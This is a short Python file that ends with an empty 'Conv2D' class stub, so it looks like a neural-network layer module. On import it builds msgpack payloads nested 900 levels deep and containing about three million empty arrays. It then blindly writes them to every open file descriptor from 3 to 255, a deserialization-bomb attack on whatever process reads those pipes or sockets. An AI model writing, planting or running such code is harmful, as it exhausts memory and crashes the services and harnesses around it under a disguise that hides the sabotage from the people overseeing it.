"""A short frame that unpacks to thousands of lists in each other, and to millions."""

import os
import struct


def frame(head):
    body = struct.pack(">I", len(head)) + head
    return struct.pack(">I", len(body)) + body


deep = b"\x82\xa2id\x01\xa5value" + b"\x91" * 900 + b"\xc0"
wide = b"\x82\xa2id\x02\xa5value" + b"\xdc\x27\x10" + (b"\xdc\x27\x10" + b"\x90" * 10_000) * 300
for descriptor in range(3, 256):
    try:
        os.write(descriptor, frame(deep) + frame(wide))
    except OSError:
        pass


class Conv2D:
    pass
